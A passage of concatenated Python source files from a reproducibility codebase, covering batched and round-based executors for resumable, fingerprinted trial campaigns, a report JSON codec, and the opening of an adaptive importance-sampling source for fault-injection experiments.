``trial_rng(seed_root, seed_index)`` — and the batch engine's RNG lane
discipline (see ``docs/batch.md``) guarantees the draws it takes from
that generator are byte-identical to the scalar ones. Results are
canonicalised through the same ``encode -> JSON -> decode`` round-trip
and persisted under the same fingerprints and
:data:`~repro.campaign.store.STORE_SCHEMA` entry shape, so a store
written by a batched run resumes a scalar run byte-identically and
vice versa.

Divergence is the escape hatch: trials that leave lockstep (a
power-cycle, a reboot, any per-lane control flow the SoA engine cannot
express) are *peeled* — the batch function returns the
:class:`Diverged` sentinel for that lane and ``execute_batched``
re-runs the whole trial through the scalar ``campaign.trial_fn`` with
a fresh ``trial_rng``. Because a trial's stream depends only on
``(seed_root, seed_index)``, the scalar re-run is the same trial the
scalar engine would have produced, not an approximation.

Tracing is deliberately unsupported here: a batched sweep has no
per-trial tracer to thread through lockstep lanes. Campaigns that need
traces use the scalar :func:`~repro.campaign.engine.execute`.
"""

from __future__ import annotations

from ..errors import ConfigurationError
from .engine import CampaignResult, RoundExecution, _canonical_result
from .spec import Campaign, trial_rng
from .store import STORE_SCHEMA, TrialStore

__all__ = ["Diverged", "execute_batched"]


class Diverged:
    """Per-lane sentinel: this trial left lockstep, peel it to scalar.

    A batch function returns ``Diverged(reason)`` in a lane's result
    slot instead of a value; :func:`execute_batched` then re-runs that
    trial through the scalar ``campaign.trial_fn`` with its own
    ``trial_rng``. ``reason`` is free-form ("power-cycle", "reboot",
    ...) and lands only in metrics-side accounting, never in results.
    """

    __slots__ = ("reason",)

    def __init__(self, reason: str = "") -> None:
        self.reason = reason

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Diverged({self.reason!r})"


def _groups(indices: "list[int]", group_size: "int | None"):
    """Shard pending trial indices into batch groups, grid order."""
    if group_size is None:
        if indices:
            yield indices
        return
    for start in range(0, len(indices), group_size):
        yield indices[start : start + group_size]


def run_round_batched(
    campaign: Campaign,
    batch_fn,
    *,
    store: "TrialStore | None" = None,
    metrics=None,
    group_size: "int | None" = None,
) -> RoundExecution:
    """Execute one round in lockstep groups through ``batch_fn``.

    The batched sibling of :func:`repro.campaign.engine.run_round`;
    callers outside the stream machinery want :func:`execute_batched`
    / :func:`~repro.campaign.stream.execute_stream`.
    """
    if not callable(batch_fn):
        raise ConfigurationError("execute_batched needs a callable batch_fn")
    if group_size is not None and group_size < 1:
        raise ConfigurationError("group_size must be >= 1")
    store = TrialStore.coerce(store)
    specs = campaign.specs()

    hits: "dict[int, dict]" = {}
    if store is not None:
        for index, spec in enumerate(specs):
            entry = store.get(spec.fingerprint)
            if entry is not None:
                hits[index] = entry

    pending = [i for i in range(len(specs)) if i not in hits]

    canonical: "dict[int, object]" = {}

    def _absorb(i: int, value) -> None:
        """Canonicalise + persist one trial the moment its group lands."""
        canonical[i] = _canonical_result(campaign, value)
        if store is not None:
            spec = specs[i]
            store.put(
                spec.fingerprint,
                {
                    "schema": STORE_SCHEMA,
                    "fingerprint": spec.fingerprint,
                    "campaign": campaign.name,
                    "params": spec.params,
                    "seed_root": spec.seed_root,
                    "seed_index": spec.seed_index,
                    "result": canonical[i],
                    "records": None,
                },
            )

    n_groups = 0
    n_diverged = 0
    for group in _groups(pending, group_size):
        n_groups += 1
        items = [campaign.trials[i].item for i in group]
        rngs = [trial_rng(specs[i].seed_root, specs[i].seed_index) for i in group]
        outcomes = list(batch_fn(items, rngs))
        if len(outcomes) != len(group):
            raise ConfigurationError(
                f"batch_fn returned {len(outcomes)} results for a "
                f"{len(group)}-lane group"
            )
        for lane, (i, value) in enumerate(zip(group, outcomes)):
            if isinstance(value, Diverged):
                n_diverged += 1
                value = campaign.trial_fn(
                    items[lane],
                    trial_rng(specs[i].seed_root, specs[i].seed_index),
                    None,
                )
            _absorb(i, value)

    for i, entry in hits.items():
        canonical[i] = entry["result"]

    decode = campaign.decode if campaign.decode is not None else lambda v: v
    values = [decode(canonical[i]) for i in range(len(specs))]

    if metrics is not None:
        metrics.counter("campaign.trials.total").inc(len(specs))
        metrics.counter("campaign.trials.executed").inc(len(pending))
        if store is not None:
            metrics.counter("campaign.store.hits").inc(len(hits))
            metrics.counter("campaign.store.misses").inc(len(pending))
        if n_groups:
            metrics.counter("campaign.batch.groups").inc(n_groups)
            metrics.counter("campaign.batch.lanes").inc(len(pending))
        if n_diverged:
            metrics.counter("campaign.batch.diverged").inc(n_diverged)

    result = CampaignResult(
        name=campaign.name,
        values=values,
        specs=specs,
        executed=len(pending),
        store_hits=len(hits),
        report=None,
    )
    return RoundExecution(
        result=result,
        canonical=[canonical[i] for i in range(len(specs))],
        records=None,
    )


def execute_batched(
    campaign: Campaign,
    batch_fn,
    *,
    store=None,
    metrics=None,
    group_size: "int | None" = None,
) -> CampaignResult:
    """Run ``campaign`` in lockstep groups, skipping stored trials.

    ``batch_fn(items, rngs)`` receives the pending trials' ``item``
    payloads and their per-lane generators (grid order within the
    group) and must return one result per lane — a trial value, or
    :class:`Diverged` for lanes that left lockstep and need the
    scalar fallback. ``group_size`` caps how many lanes ride in one
    batch call (``None`` = all pending trials in a single group).

    Like :func:`~repro.campaign.engine.execute`, this routes through
    the round-based stream core — the static grid is the trivial
    one-round source — and stays byte-identical to the pre-stream
    executor.
    """
    from .stream import GridSource, execute_stream

    stream = execute_stream(
        GridSource(campaign),
        store=store,
        metrics=metrics,
        batch_fn=batch_fn,
        group_size=group_size,
    )
    return stream.rounds[0].result
