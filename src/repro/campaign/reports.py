"""JSON codec for :class:`~repro.analysis.report.Table` and
:class:`~repro.analysis.report.Series`.

Single-shot experiments (one deterministic computation, no trial grid)
run through the engine as one-trial campaigns whose trial builds the
finished report object. This codec lets those reports ride through the
trial store: ``decode_report(encode_report(r)).render()`` is
byte-identical to ``r.render()`` because every cell the renderer
touches is a JSON scalar (str / int / float) and floats round-trip
exactly through JSON.
"""

from __future__ import annotations

from ..analysis.report import Series, Table
from ..errors import ConfigurationError


def encode_report(report) -> dict:
    """JSON-safe form of a ``Table`` or ``Series``."""
    if isinstance(report, Table):
        return {
            "kind": "table",
            "title": report.title,
            "columns": list(report.columns),
            "rows": [list(row) for row in report.rows],
            "notes": report.notes,
        }
    if isinstance(report, Series):
        return {
            "kind": "series",
            "title": report.title,
            "x_label": report.x_label,
            "y_label": report.y_label,
            "series": [
                {"name": name, "xs": list(xs), "ys": list(ys)}
                for name, (xs, ys) in report.series.items()
            ],
            "notes": report.notes,
        }
    raise ConfigurationError(
        f"cannot encode report of type {type(report).__name__}"
    )


def decode_report(data: dict):
    """Rebuild the ``Table`` / ``Series`` encoded by :func:`encode_report`."""
    kind = data.get("kind")
    if kind == "table":
        table = Table(
            title=data["title"], columns=list(data["columns"]),
            notes=data["notes"],
        )
        for row in data["rows"]:
            table.add_row(*row)
        return table
    if kind == "series":
        series = Series(
            title=data["title"], x_label=data["x_label"],
            y_label=data["y_label"], notes=data["notes"],
        )
        for entry in data["series"]:
            series.add(entry["name"], entry["xs"], entry["ys"])
        return series
    raise ConfigurationError(f"cannot decode report kind {kind!r}")
