"""Unified resumable campaign engine.

Declare a grid of trials (:class:`Campaign` / :class:`Trial`), run it
with :func:`execute` — deterministically parallel via
:func:`repro.parallel.pmap`, per-trial RNG pinned by
``(seed_root, seed_index)`` — and point it at a :class:`TrialStore`
to make the run resumable: completed trials are fingerprinted
(:class:`TrialSpec`), persisted, and skipped on rerun, with aggregate
output byte-identical to an uninterrupted run.

Since the round-based refactor the executor is a *stream drain*: a
:class:`TrialSource` emits rounds (each round is a ``Campaign``), and
:func:`execute_stream` drains it — a static grid is the trivial
one-round source (:class:`GridSource`), and adaptive multi-round
sources (:mod:`repro.adaptive`) ride the same store/trace/quarantine
machinery with round seeds derived from outcome digests
(:func:`round_seed`), so they stay resumable and byte-identical at
any worker count.

See ``docs/campaigns.md`` for the spec format, fingerprinting rules
and resume semantics, and ``docs/adaptive.md`` for multi-round
streams.
"""

from .batch import Diverged, execute_batched
from .engine import CampaignResult, CampaignStatus, execute, status
from .reports import decode_report, encode_report
from .spec import (
    CODE_VERSION,
    Campaign,
    Trial,
    TrialSpec,
    canonical_json,
    jsonify,
    trial_rng,
)
from .store import STORE_SCHEMA, TrialStore
from .stream import (
    GridSource,
    RoundResult,
    StreamHistory,
    StreamResult,
    StreamStatus,
    TrialSource,
    execute_stream,
    replay_round,
    round_seed,
    stream_status,
    values_digest,
)

__all__ = [
    "CODE_VERSION",
    "STORE_SCHEMA",
    "Campaign",
    "CampaignResult",
    "CampaignStatus",
    "Diverged",
    "GridSource",
    "RoundResult",
    "StreamHistory",
    "StreamResult",
    "StreamStatus",
    "Trial",
    "TrialSource",
    "TrialSpec",
    "TrialStore",
    "canonical_json",
    "decode_report",
    "encode_report",
    "execute",
    "execute_batched",
    "execute_stream",
    "jsonify",
    "replay_round",
    "round_seed",
    "status",
    "stream_status",
    "trial_rng",
    "values_digest",
]
