"""Unified resumable campaign engine.

Declare a grid of trials (:class:`Campaign` / :class:`Trial`), run it
with :func:`execute` — deterministically parallel via
:func:`repro.parallel.pmap`, per-trial RNG pinned by
``(seed_root, seed_index)`` — and point it at a :class:`TrialStore`
to make the run resumable: completed trials are fingerprinted
(:class:`TrialSpec`), persisted, and skipped on rerun, with aggregate
output byte-identical to an uninterrupted run.

See ``docs/campaigns.md`` for the spec format, fingerprinting rules
and resume semantics.
"""

from .batch import Diverged, execute_batched
from .engine import CampaignResult, CampaignStatus, execute, status
from .reports import decode_report, encode_report
from .spec import (
    CODE_VERSION,
    Campaign,
    Trial,
    TrialSpec,
    canonical_json,
    jsonify,
    trial_rng,
)
from .store import STORE_SCHEMA, TrialStore

__all__ = [
    "CODE_VERSION",
    "STORE_SCHEMA",
    "Campaign",
    "CampaignResult",
    "CampaignStatus",
    "Diverged",
    "Trial",
    "TrialSpec",
    "TrialStore",
    "canonical_json",
    "decode_report",
    "encode_report",
    "execute",
    "execute_batched",
    "jsonify",
    "status",
    "trial_rng",
]
