"""Round-based trial streams: drain a ``TrialSource`` to exhaustion.

The pre-stream campaign layer executed one *static grid*: every trial
was known before the first one ran. That structurally blocks adaptive
fault campaigns (:mod:`repro.adaptive`), where round *k+1*'s trials
are chosen from round *k*'s outcomes. This module generalises the
executor without giving up any of the campaign layer's guarantees:

* A :class:`TrialSource` emits **rounds**, and each round *is* a
  :class:`~repro.campaign.spec.Campaign` — so every round flows
  through the existing fingerprint / store / trace / quarantine /
  metrics machinery completely unchanged. A static grid is the
  trivial one-round source (:class:`GridSource`), which is exactly
  how :func:`repro.campaign.execute` is implemented now.
* Each completed round is folded into a :class:`StreamHistory` whose
  per-round **outcome digests** (SHA-256 over the round's canonical
  JSON values, grid order) are the only channel through which
  outcomes influence later rounds. :func:`round_seed` derives round
  *k+1*'s seed root from round *k*'s digest, so an adaptive run is
  **deterministic by construction**: serial, pooled, and resumed
  executions see identical histories and therefore make identical
  adaptive choices — byte-identical at any ``--workers``.
* Resume needs no extra bookkeeping. Replaying the stream against a
  warm :class:`~repro.campaign.store.TrialStore` re-derives every
  round from store hits (same digests → same next rounds → all hits)
  until it reaches the first trial that never ran.
  :func:`stream_status` does this replay read-only to report progress
  without executing anything.

``execute_stream`` is the single drain loop behind both
:func:`repro.campaign.execute` (scalar / supervised / traced) and
:func:`repro.campaign.execute_batched` (SoA lockstep via
``batch_fn``), which is what makes static-grid campaigns through the
round core byte-identical to the historical one-shot executors.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Protocol, runtime_checkable

from ..errors import ConfigurationError
from .engine import CampaignStatus, RoundExecution, run_round, status
from .spec import Campaign, canonical_json
from .store import TrialStore

if TYPE_CHECKING:  # pragma: no cover - typing only
    from ..ground.supervision import QuarantinedTrial
    from .engine import CampaignResult
    from .spec import TrialSpec

__all__ = [
    "GridSource",
    "RoundResult",
    "StreamHistory",
    "StreamResult",
    "StreamStatus",
    "TrialSource",
    "execute_stream",
    "replay_round",
    "round_seed",
    "stream_status",
    "values_digest",
]


def values_digest(canonical_values: "list[object]") -> str:
    """SHA-256 over a round's canonical JSON values, grid order.

    This is the round's *outcome identity*: two executions that
    produced these bytes are interchangeable, so anything derived
    from the digest (the next round's seeds, the stream digest) is
    reproducible across worker counts and resumes. Quarantined slots
    participate as ``null`` — the adaptive choices downstream of a
    quarantine are deterministic given the quarantine pattern.
    """
    return hashlib.sha256(
        canonical_json(canonical_values).encode("utf-8")
    ).hexdigest()


def round_seed(seed: int, round_index: int, digest: str) -> int:
    """Derive round ``round_index``'s seed root from the stream state.

    Mixes the stream's base seed, the round ordinal, and the digest
    of everything observed so far (:attr:`StreamHistory.digest`)
    through SHA-256, so (a) replay is deterministic by construction
    and (b) no two rounds — and no two streams with different bases —
    share a seed root. The result fits ``numpy.random.SeedSequence``.
    """
    material = canonical_json(
        {"digest": digest, "round": round_index, "seed": seed}
    )
    return int.from_bytes(
        hashlib.sha256(material.encode("utf-8")).digest()[:8], "big"
    )


@dataclass(frozen=True)
class RoundResult:
    """One drained round: its ordinal, result, and outcome digest."""

    index: int
    result: "CampaignResult"
    digest: str


@dataclass
class StreamHistory:
    """Everything a :class:`TrialSource` may condition the next round on.

    Sources must treat this as read-only and derive *all*
    outcome-dependent choices from it (typically: train on
    ``values()``, seed with :func:`round_seed` over :attr:`digest`).
    """

    rounds: "list[RoundResult]" = field(default_factory=list)

    @property
    def digest(self) -> str:
        """Digest over the per-round digests (uniform even when empty)."""
        return values_digest([r.digest for r in self.rounds])

    @property
    def trials(self) -> int:
        return sum(len(r.result.specs) for r in self.rounds)

    def values(self) -> "list[object]":
        """All decoded trial values so far, round-major grid order.

        Quarantined slots are ``None`` — callers training models on
        outcomes must skip them.
        """
        out: "list[object]" = []
        for r in self.rounds:
            out.extend(r.result.values)
        return out

    def specs(self) -> "list[TrialSpec]":
        out: "list[TrialSpec]" = []
        for r in self.rounds:
            out.extend(r.result.specs)
        return out


@runtime_checkable
class TrialSource(Protocol):
    """A stream of trial rounds; the unit the stream executor drains.

    ``next_round(history)`` returns the next round as a fully
    resolved :class:`~repro.campaign.spec.Campaign`, or ``None`` when
    the stream is exhausted. The contract that makes streams
    resumable and worker-count independent: the returned campaign
    must be a **pure function of ``history``** (same history ⇒ same
    campaign, fingerprint-for-fingerprint), with all randomness
    seeded via :func:`round_seed` from ``history.digest``.
    """

    @property
    def name(self) -> str:  # pragma: no cover - protocol
        ...

    def next_round(
        self, history: StreamHistory
    ) -> "Campaign | None":  # pragma: no cover - protocol
        ...


@dataclass
class GridSource:
    """A static grid as the trivial one-round trial stream.

    This is the compatibility bridge: ``execute(campaign)`` ≡
    ``execute_stream(GridSource(campaign)).rounds[0].result``, and the
    single round reuses the campaign object untouched — same
    fingerprints, same store entries, same trace bytes as the
    pre-stream executor.
    """

    campaign: Campaign

    @property
    def name(self) -> str:
        return self.campaign.name

    def next_round(self, history: StreamHistory) -> "Campaign | None":
        return self.campaign if not history.rounds else None


@dataclass
class StreamResult:
    """A fully drained stream, with per-round and flattened views."""

    name: str
    rounds: "tuple[RoundResult, ...]"
    exhausted: bool

    @property
    def digest(self) -> str:
        """The stream's outcome identity (see :func:`values_digest`)."""
        return values_digest([r.digest for r in self.rounds])

    @property
    def values(self) -> "list[object]":
        out: "list[object]" = []
        for r in self.rounds:
            out.extend(r.result.values)
        return out

    @property
    def specs(self) -> "list[TrialSpec]":
        out: "list[TrialSpec]" = []
        for r in self.rounds:
            out.extend(r.result.specs)
        return out

    @property
    def quarantined(self) -> "tuple[QuarantinedTrial, ...]":
        """All quarantined trials, stamped with their round ordinal."""
        out: "list[QuarantinedTrial]" = []
        for r in self.rounds:
            out.extend(
                replace(q, round=r.index) for q in r.result.quarantined
            )
        return tuple(out)

    @property
    def executed(self) -> int:
        return sum(r.result.executed for r in self.rounds)

    @property
    def store_hits(self) -> int:
        return sum(r.result.store_hits for r in self.rounds)

    @property
    def trials(self) -> int:
        return sum(len(r.result.specs) for r in self.rounds)


def execute_stream(
    source: TrialSource,
    *,
    workers: "int | None" = 1,
    store=None,
    trace_path: "str | None" = None,
    metrics=None,
    force_pool: bool = False,
    chunksize: "int | None" = None,
    supervision=None,
    batch_fn=None,
    group_size: "int | None" = None,
    max_rounds: "int | None" = None,
    on_round=None,
) -> StreamResult:
    """Drain ``source`` round by round until it declines to continue.

    Each round runs through the full campaign machinery
    (:func:`~repro.campaign.engine.run_round`, or its batched sibling
    when ``batch_fn`` is given): store skip/persist per trial,
    supervision/quarantine, per-round metrics. Trace records are
    accumulated across rounds and merged into **one** file at the
    end, in round-major grid order — for a one-round stream that is
    byte-identical to the pre-stream trace output.

    ``on_round(round_result)`` fires after each round (progress
    reporting); ``max_rounds`` is a hard cap for callers that want a
    safety net around a buggy source. ``batch_fn`` is mutually
    exclusive with tracing and supervision, exactly as
    ``execute_batched`` always was.
    """
    if batch_fn is not None and (trace_path is not None or supervision is not None):
        raise ConfigurationError(
            "batch_fn cannot be combined with trace_path or supervision; "
            "use the scalar executor for traced/supervised streams"
        )
    if max_rounds is not None and max_rounds < 1:
        raise ConfigurationError("max_rounds must be >= 1")
    store = TrialStore.coerce(store)

    history = StreamHistory()
    rounds: "list[RoundResult]" = []
    all_records: "list[list]" = []
    exhausted = False

    while True:
        if max_rounds is not None and len(rounds) >= max_rounds:
            break
        campaign = source.next_round(history)
        if campaign is None:
            exhausted = True
            break
        if batch_fn is not None:
            from .batch import run_round_batched

            execution: RoundExecution = run_round_batched(
                campaign,
                batch_fn,
                store=store,
                metrics=metrics,
                group_size=group_size,
            )
        else:
            execution = run_round(
                campaign,
                workers=workers,
                store=store,
                with_tracer=trace_path is not None,
                metrics=metrics,
                force_pool=force_pool,
                chunksize=chunksize,
                supervision=supervision,
            )
        round_result = RoundResult(
            index=len(rounds),
            result=execution.result,
            digest=values_digest(execution.canonical),
        )
        rounds.append(round_result)
        history.rounds.append(round_result)
        if execution.records is not None:
            all_records.extend(execution.records)
        if metrics is not None:
            metrics.counter("campaign.rounds").inc()
        if on_round is not None:
            on_round(round_result)

    if trace_path is not None:
        from ..obs import merge_task_records

        merge_task_records(all_records, trace_path)

    return StreamResult(
        name=source.name,
        rounds=tuple(rounds),
        exhausted=exhausted,
    )


def replay_round(campaign: Campaign, store: "TrialStore | None"):
    """Rebuild one fully stored round without executing anything.

    Returns the ``(result, canonical)`` pair :func:`run_round` would
    have produced — values decoded, digest material in grid order —
    or ``None`` if any of the round's trials is missing from the
    store (the round is incomplete; replay must stop here).
    """
    if store is None:
        return None
    specs = campaign.specs()
    canonical: "list[object]" = []
    for spec in specs:
        entry = store.get(spec.fingerprint)
        if entry is None:
            return None
        canonical.append(entry["result"])
    decode = campaign.decode if campaign.decode is not None else lambda v: v
    from .engine import CampaignResult

    result = CampaignResult(
        name=campaign.name,
        values=[decode(c) for c in canonical],
        specs=specs,
        executed=0,
        store_hits=len(specs),
        report=None,
    )
    return result, canonical


@dataclass(frozen=True)
class StreamStatus:
    """How far through a stream a store has gotten.

    ``current`` is the per-trial status of the first incomplete round
    (``None`` when the stream replayed to exhaustion). ``exhausted``
    means every round the source will ever emit is fully stored.
    """

    name: str
    rounds_complete: int
    trials_stored: int
    current: "CampaignStatus | None"
    exhausted: bool


def stream_status(
    source: TrialSource,
    store,
    *,
    fast: bool = False,
    max_rounds: "int | None" = None,
) -> StreamStatus:
    """Replay ``source`` against ``store`` read-only and report progress.

    Complete rounds are rebuilt from stored entries (their digests
    feed the source exactly as live execution would); the first
    incomplete round is counted per-trial — with ``fast=True`` via
    the O(stat) :meth:`TrialStore.contains` probe instead of full
    read+checksum scans. Nothing is ever executed; defective entries
    encountered during replay are quarantined and counted as pending,
    exactly like the default :func:`~repro.campaign.engine.status`
    scan.
    """
    store = TrialStore.coerce(store)
    history = StreamHistory()
    trials_stored = 0
    while True:
        if max_rounds is not None and len(history.rounds) >= max_rounds:
            return StreamStatus(
                name=source.name,
                rounds_complete=len(history.rounds),
                trials_stored=trials_stored,
                current=None,
                exhausted=False,
            )
        campaign = source.next_round(history)
        if campaign is None:
            return StreamStatus(
                name=source.name,
                rounds_complete=len(history.rounds),
                trials_stored=trials_stored,
                current=None,
                exhausted=True,
            )
        replayed = replay_round(campaign, store)
        if replayed is None:
            current = status(campaign, store, fast=fast)
            return StreamStatus(
                name=source.name,
                rounds_complete=len(history.rounds),
                trials_stored=trials_stored + current.completed,
                current=current,
                exhausted=False,
            )
        result, canonical = replayed
        trials_stored += len(result.specs)
        history.rounds.append(
            RoundResult(
                index=len(history.rounds),
                result=result,
                digest=values_digest(canonical),
            )
        )
