"""Declarative campaign specs and stable trial fingerprints.

A *campaign* is a grid of independent trials — workload x machine
spec x seed x environment — declared up front instead of hand-rolled
as a ``for`` loop inside each experiment module. Declaring the grid
buys three things:

* the engine (:mod:`repro.campaign.engine`) can run any campaign
  through :func:`repro.parallel.pmap` with the same determinism
  contract every experiment already relies on;
* every trial gets a **stable fingerprint** — a SHA-256 over the
  canonical JSON of (campaign name, code-version salt, campaign
  context, trial params, seed root, seed index) — which keys the
  on-disk result store so reruns skip completed trials;
* ``repro campaign run/status/resume`` can introspect any experiment
  without running it.

Fingerprints deliberately exclude the trial's *position* in the grid:
the seed stream is pinned by ``(seed_root, seed_index)`` alone (see
:func:`trial_rng`), so extending a grid — more episodes, an extra
scheme — keeps previously completed trials valid in the store.

Trial functions are top-level callables ``fn(item, rng, tracer)``
(picklable by qualified name, like :func:`repro.parallel.pmap` task
functions); ``rng`` is ``None`` for unseeded trials and ``tracer`` is
``None`` when tracing is off. They must return *reduced, JSON-safe*
data — or the campaign supplies ``encode``/``decode`` hooks that
convert to/from JSON-safe form. The engine canonicalises **every**
result through an encode -> JSON -> decode round-trip, even for trials
executed in-memory, so a resumed campaign (values read back from
disk) aggregates byte-identically to a cold one.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field

import numpy as np

from ..errors import ConfigurationError

__all__ = [
    "CODE_VERSION",
    "Campaign",
    "Trial",
    "TrialSpec",
    "canonical_json",
    "jsonify",
    "trial_rng",
]

#: Code-version salt folded into every fingerprint. Bump when trial
#: semantics change so stale store entries stop matching.
CODE_VERSION = "campaign-v1"


def jsonify(value):
    """Recursively coerce ``value`` to plain JSON types.

    Handles dicts, lists/tuples, numpy scalars and small numpy arrays;
    anything else that ``json`` cannot encode raises
    :class:`~repro.errors.ConfigurationError` — campaigns with richer
    trial results must supply explicit ``encode``/``decode`` hooks.
    """
    if isinstance(value, dict):
        return {str(k): jsonify(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [jsonify(v) for v in value]
    if isinstance(value, np.generic):
        return value.item()
    if isinstance(value, np.ndarray):
        return [jsonify(v) for v in value.tolist()]
    if value is None or isinstance(value, (bool, int, float, str)):
        return value
    raise ConfigurationError(
        f"trial data of type {type(value).__name__} is not JSON-safe; "
        "give the Campaign encode/decode hooks"
    )


def canonical_json(value) -> str:
    """Deterministic JSON: sorted keys, compact separators."""
    return json.dumps(jsonify(value), sort_keys=True, separators=(",", ":"))


def trial_rng(seed_root, seed_index):
    """The generator a seeded trial receives.

    ``SeedSequence(entropy=root, spawn_key=(i,))`` is exactly the
    child ``SeedSequence(root).spawn(n)[i]`` for any ``n >= i+1``, so
    a trial's stream depends only on ``(root, i)`` — never on how many
    trials the grid holds or which of them still need running. That
    identity is what makes resume byte-identical: a rerun that
    executes only the missing trials hands each one the same generator
    the cold run did.
    """
    if seed_root is None:
        return None
    child = np.random.SeedSequence(entropy=seed_root, spawn_key=(int(seed_index),))
    return np.random.default_rng(child)


@dataclass(frozen=True)
class TrialSpec:
    """One fully resolved trial: identity material + fingerprint."""

    campaign: str
    salt: str
    context_json: str
    params_json: str
    seed_root: "int | None"
    seed_index: "int | None"

    @property
    def fingerprint(self) -> str:
        material = canonical_json(
            {
                "campaign": self.campaign,
                "salt": self.salt,
                "context": self.context_json,
                "params": self.params_json,
                "seed_root": self.seed_root,
                "seed_index": self.seed_index,
            }
        )
        return hashlib.sha256(material.encode("utf-8")).hexdigest()

    @property
    def params(self) -> dict:
        return json.loads(self.params_json)


@dataclass
class Trial:
    """One declared grid point.

    ``params`` is the JSON-safe identity of the trial (what makes it
    *this* trial and not its neighbour); ``item`` is the picklable
    payload handed to the trial function. ``seed_index`` defaults to
    the trial's position in the grid and ``seed_root`` to the
    campaign's seed; both can be pinned explicitly for multi-stage
    campaigns (e.g. Table 7's MBU stage derives from ``seed + 1``).
    """

    params: dict
    item: object = None
    seed_root: "int | None" = None
    seed_index: "int | None" = None


@dataclass
class Campaign:
    """A named grid of trials plus the hooks to run and fold them.

    ``trial_fn`` is called as ``fn(item, rng, tracer)``.  ``context``
    is campaign-wide fingerprint material (configs, detector rosters,
    workload identity) shared by every trial.  ``aggregate`` folds the
    decoded values — in grid order — into the experiment's renderable
    (:class:`repro.analysis.report.Table` / ``Series``); it runs in
    the parent process, so closures are fine there.
    """

    name: str
    trial_fn: "callable"
    trials: "list[Trial]"
    seed: "int | None" = None
    context: dict = field(default_factory=dict)
    salt: str = ""
    encode: "callable | None" = None
    decode: "callable | None" = None
    aggregate: "callable | None" = None

    def specs(self) -> "list[TrialSpec]":
        """Resolve every trial; rejects colliding fingerprints."""
        context_json = canonical_json(self.context)
        salt = f"{CODE_VERSION}|{self.salt}" if self.salt else CODE_VERSION
        specs = []
        seen: "dict[str, int]" = {}
        for index, trial in enumerate(self.trials):
            root = trial.seed_root if trial.seed_root is not None else self.seed
            if root is None:
                seed_index = None
            elif trial.seed_index is not None:
                seed_index = int(trial.seed_index)
            else:
                seed_index = index
            spec = TrialSpec(
                campaign=self.name,
                salt=salt,
                context_json=context_json,
                params_json=canonical_json(trial.params),
                seed_root=None if root is None else int(root),
                seed_index=seed_index,
            )
            fp = spec.fingerprint
            if fp in seen:
                raise ConfigurationError(
                    f"campaign {self.name!r}: trials {seen[fp]} and {index} "
                    f"have identical fingerprints (params {trial.params!r}); "
                    "give them distinguishing params"
                )
            seen[fp] = index
            specs.append(spec)
        return specs
