"""The adaptive trial source: model-guided importance-sampled waves.

:class:`AdaptiveSource` is a :class:`repro.campaign.TrialSource` that
closes the SSRESF loop on top of the round-based stream core:

1. **Round 0** strikes ``wave_size`` targets flux-weighted (uniform
   fluence — exactly what a non-adaptive campaign does), because with
   no labels the model has nothing to say.
2. After each round it trains a :class:`repro.ml.RandomForest`
   *classification* forest on every labelled trial so far (cell
   features → was-it-SDC), predicts per-cell sensitivity ``p_hat``,
   and aims the next wave at the variance-optimal allocation
   ``q ∝ f * sqrt(p_hat)`` (see :mod:`repro.adaptive.estimator`),
   defensively mixed with the flux distribution:
   ``q = (1 - epsilon) * q_model + epsilon * f`` — so no flux-bearing
   cell ever has zero probability and the Horvitz–Thompson weights
   stay bounded.
3. It stops once the reweighted SDC-rate CI is narrower than
   ``target_width`` (after ``min_rounds``), or at ``max_rounds``.

Determinism is inherited from the stream contract, not re-derived:
every outcome-dependent choice (training set, proposal, cell draws)
is a pure function of the :class:`~repro.campaign.stream.StreamHistory`,
and all randomness is seeded via
:func:`~repro.campaign.stream.round_seed` from the history digest.
Same history ⇒ same wave, fingerprint-for-fingerprint — which is what
makes adaptive campaigns resumable and byte-identical at any worker
count. With ``epsilon = 1.0`` the model never trains and every wave
is flux-weighted: that *is* the uniform baseline, sharing the same
stopping rule so trials-to-target-width is an apples-to-apples
comparison.

Trial params carry the sampling probabilities (``f``, ``q``) so the
estimator can reweight from the stored specs alone — a resumed or
replayed stream re-derives the exact estimate without re-planning.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..campaign import Campaign, Trial
from ..campaign.stream import StreamHistory, round_seed
from ..errors import ConfigurationError
from .estimator import HTEstimate, ht_estimate
from .features import SurfaceCell, feature_matrix

__all__ = ["AdaptiveConfig", "AdaptiveSource"]


@dataclass(frozen=True)
class AdaptiveConfig:
    """Knobs for one adaptive (or uniform-baseline) stream.

    ``epsilon`` is the exploration share of each wave: 0 trusts the
    model completely (unsafe — a wrong model could starve a sensitive
    cell), 1 never leaves flux weighting (the uniform baseline).
    ``score_floor`` clips predicted sensitivities away from 0 before
    the ``sqrt`` allocation so "certainly dead" cells keep a sliver
    of proposal mass. ``target_width`` is the full CI width the
    stream runs until (``None`` = run all ``max_rounds``).
    """

    wave_size: int = 32
    max_rounds: int = 12
    min_rounds: int = 2
    target_width: "float | None" = 0.05
    confidence: float = 0.95
    epsilon: float = 0.2
    score_floor: float = 0.002
    #: Observed SDC count required before the width test may stop the
    #: stream. For rare events the empirical SE is spuriously tiny
    #: until a handful of positives land (zero hits ⇒ zero variance ⇒
    #: instant, wrong convergence); both samplers share this guard so
    #: the trials-to-width comparison stays fair.
    min_positives: int = 10
    n_trees: int = 20
    max_depth: int = 6
    min_samples_leaf: int = 2

    def __post_init__(self) -> None:
        if self.wave_size < 1:
            raise ConfigurationError("wave_size must be >= 1")
        if self.max_rounds < 1 or self.min_rounds < 1:
            raise ConfigurationError("max_rounds and min_rounds must be >= 1")
        if self.min_rounds > self.max_rounds:
            raise ConfigurationError("min_rounds cannot exceed max_rounds")
        if not 0.0 <= self.epsilon <= 1.0:
            raise ConfigurationError("epsilon must be in [0, 1]")
        if self.target_width is not None and self.target_width <= 0:
            raise ConfigurationError("target_width must be positive")
        if not 0.0 < self.confidence < 1.0:
            raise ConfigurationError("confidence must be in (0, 1)")
        if not 0.0 < self.score_floor < 0.5:
            raise ConfigurationError("score_floor must be in (0, 0.5)")
        if self.min_positives < 0:
            raise ConfigurationError("min_positives must be >= 0")


class AdaptiveSource:
    """Importance-sampled strike waves over a fixed cell population.

    ``trial_fn(item, rng, tracer)`` executes one strike trial (it must
    be top-level picklable, like any campaign trial function);
    ``item_fn(cell, offset, bit)`` builds its picklable payload for a
